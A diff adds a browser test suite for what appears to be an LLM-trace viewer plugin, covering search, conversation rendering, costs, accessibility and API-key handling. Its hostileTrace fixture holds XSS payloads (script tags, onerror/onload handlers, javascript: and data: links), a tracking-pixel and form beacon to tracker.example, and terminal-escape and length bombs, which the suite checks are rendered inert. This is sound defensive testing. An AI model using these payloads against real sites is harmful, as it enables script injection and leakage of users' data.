@@ -1,0 +1,188 @@
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { chromiumPath, type Opened, type Stage, send, sendFixtures, setStage } from './stage.ts';
+
+const AGENT_TRACE = 'fd17bb8c3e1010b3cbc68e115e7fbb57';
+const HOSTILE_TRACE = 'bad0bad0bad0bad0bad0bad0bad0bad0';
+const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+
+if (!chromiumPath) {
+  process.stderr.write(
+    '\nThe plugin in a browser DID NOT RUN: no Chromium here (Debian: apt-get install chromium, or set CHROMIUM_PATH).\n',
+  );
+}
+
+describe.runIf(chromiumPath)('the plugin in a browser', () => {
+  let stage: Stage;
+  beforeAll(async () => {
+    stage = await setStage();
+    await sendFixtures(stage.backend);
+    await send(stage.backend, JSON.stringify(hostileTrace()));
+  }, 180_000);
+  afterAll(() => stage?.close());
+
+  const closed = async ({ page, errors, foreign }: Opened) => {
+    expect(errors).toEqual([]);
+    expect(foreign).toEqual([]);
+    await page.close();
+  };
+
+  it('from a search to the trace to its conversation', async () => {
+    const opened = await stage.open({ queryType: 'search', filter: `traceId = ${AGENT_TRACE}` });
+    const { page } = opened;
+    await page.getByTitle('Open trace').click();
+    await page.getByRole('list', { name: 'spans' }).getByText('chat gpt-4o-mini').first().waitFor();
+    await page.getByRole('button', { name: 'Open conversation' }).click();
+    await page.getByText('It is 18C and sunny in Paris.').waitFor();
+    await closed(opened);
+  });
+
+  it('a conversation says who said what, what it took and what it cost', async () => {
+    const opened = await stage.open({ queryType: 'conversation', conversationId: AGENT_TRACE });
+    const { page } = opened;
+    const thread = page.getByRole('region', { name: 'conversation' });
+    await thread.getByText('It is 18C and sunny in Paris.').waitFor();
+    const articles = await thread.getByRole('article').allInnerTexts();
+    expect(articles).toHaveLength(3);
+    expect(articles[0]).toContain('Weather in Paris?');
+    expect(articles[1]).toMatch(
+      /get_weather[\s\S]*"city": "Paris"[\s\S]*"tempC": 18[\s\S]*52 in → 17 out[\s\S]*\$0\.000018/,
+    );
+    expect(articles[2]).toMatch(/84 in → 11 out \(64 cache read\)[\s\S]*\$0\.0000144[\s\S]*stop/);
+    await page.getByRole('button', { name: 'costliest' }).click();
+    expect(await thread.locator('article[aria-current=true]').textContent()).toContain('get_weather');
+    await page.getByRole('textbox', { name: 'Search messages' }).fill('SUNNY');
+    await page.getByText('1 found').waitFor();
+    await page.keyboard.press('Enter');
+    expect(await thread.locator('article[aria-current=true]').textContent()).toContain('It is 18C and sunny');
+    await closed(opened);
+  });
+
+  it('metrics are drawn for each group', async () => {
+    const opened = await stage.open({ queryType: 'metrics', measure: 'cost', groupBy: ['model'] });
+    await opened.page.getByText('claude-sonnet-4-5-20250929').waitFor();
+    expect(await opened.page.locator('.uplot canvas').count()).toBe(1);
+    await closed(opened);
+  });
+
+  it('a filter that cannot be read is pointed at', async () => {
+    const { page } = await stage.open({ queryType: 'search', filter: 'cost >' });
+    await page
+      .getByRole('alert')
+      .getByText(/character 7/)
+      .waitFor();
+    await page.close();
+  });
+
+  it('the health check says that all is well', async () => {
+    const { page } = await stage.open({ queryType: 'search' });
+    await page.getByRole('button', { name: 'Settings' }).click();
+    await page.getByRole('button', { name: 'Save & test' }).click();
+    await page.getByText('The backend answers and has traces.').waitFor();
+    await page.close();
+  });
+
+  it('nothing in a message runs, nothing is loaded for it, nothing hangs', async () => {
+    const opened = await stage.open({ queryType: 'conversation', conversationId: HOSTILE_TRACE });
+    const { page } = opened;
+    await page.getByText('the end of it').waitFor();
+    const links = await page
+      .locator('article a')
+      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
+    for (const link of links) expect(link).toMatch(/^(https?:|mailto:)/);
+    expect(await page.locator('article').locator('img, script, iframe, object, embed, form, video').count()).toBe(0);
+    expect(await page.evaluate(() => (globalThis as { pwned?: unknown }).pwned)).toBeUndefined();
+    expect(await page.locator('body').textContent()).not.toContain('\u001b');
+    await page
+      .getByRole('button', { name: /Show more of 1\.0 MB/ })
+      .first()
+      .click();
+    await closed(opened);
+  });
+
+  it.each(['dark', 'light'] as const)('people with assistive technology can use it, %s', async (theme) => {
+    const opened = await stage.open({ queryType: 'conversation', conversationId: AGENT_TRACE }, { theme });
+    await opened.page.getByText('It is 18C and sunny in Paris.').waitFor();
+    expect(await violations(opened.page)).toEqual([]);
+    await closed(opened);
+  });
+});
+
+describe.runIf(chromiumPath)('with keys', () => {
+  it('a key that is not known is told with what to do, and is never in the browser', async () => {
+    const secret = 'not-the-right-secret';
+    const stage = await setStage({ apiKeys: ['shop:right:read'], secretHeaders: { 'x-portkey-api-key': secret } });
+    try {
+      const { page } = await stage.open({ queryType: 'search' });
+      await page
+        .getByRole('alert')
+        .getByText(/Set a key with the right to read/)
+        .waitFor();
+      expect(await page.content()).not.toContain(secret);
+    } finally {
+      await stage.close();
+    }
+  }, 120_000);
+});
+
+async function violations(page: Page): Promise<string[]> {
+  await page.evaluate(AXE);
+  return page.evaluate(async () => {
+    const { axe } = globalThis as unknown as { axe: { run(scope: object, options: object): Promise<AxeResults> } };
+    interface AxeResults {
+      violations: { id: string; nodes: { html: string }[] }[];
+    }
+    const found = await axe.run(
+      { include: [['[aria-label="conversation"]'], ['[aria-label="steps"]']] },
+      {
+        runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'],
+      },
+    );
+    return found.violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html.slice(0, 200)}`));
+  });
+}
+
+function hostileTrace(): object {
+  const texts = [
+    '<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned = 2">',
+    '<svg onload="globalThis.pwned = 3"><a xlink:href="javascript:globalThis.pwned=4"><text>click</text></a></svg>',
+    '[a](javascript:globalThis.pwned=5) [b](data:text/html,<script>pwned=6</script>) [c](vbscript:x) [d](https://example.org/ok)',
+    '![picture](https://tracker.example/pixel.png?said=secret) <iframe src="https://tracker.example"></iframe>',
+    '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u202eevil',
+    `${'['.repeat(5_000)}${'*_'.repeat(5_000)}${'`'.repeat(3_000)}${'> '.repeat(3_000)}`,
+    'x'.repeat(1_000_000),
+    '</textarea></style></script><form action="https://tracker.example"><input name=q></form>',
+    'the end of it',
+  ];
+  const text = (content: string) => ({ type: 'text', content });
+  const start = BigInt(Date.now() - 60_000) * 1_000_000n;
+  const value = (stringValue: string) => ({ stringValue });
+  const attributes = [
+    { key: 'gen_ai.operation.name', value: value('chat') },
+    { key: 'gen_ai.provider.name', value: value('openai') },
+    { key: 'gen_ai.request.model', value: value('<b>gpt-4o</b>') },
+    {
+      key: 'gen_ai.input.messages',
+      value: value(JSON.stringify([{ role: 'user', parts: texts.slice(0, 4).map(text) }])),
+    },
+    {
+      key: 'gen_ai.output.messages',
+      value: value(JSON.stringify([{ role: 'assistant', parts: texts.slice(4).map(text), finish_reason: 'stop' }])),
+    },
+  ];
+  const span = {
+    traceId: HOSTILE_TRACE,
+    spanId: 'bad0bad0bad0bad0',
+    name: '<img src=x onerror="globalThis.pwned = 7">',
+    kind: 3,
+    startTimeUnixNano: String(start),
+    endTimeUnixNano: String(start + 1_000_000_000n),
+    attributes,
+    status: {},
+  };
+  return {
+    resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'test' }, spans: [span] }] }],
+  };
+}
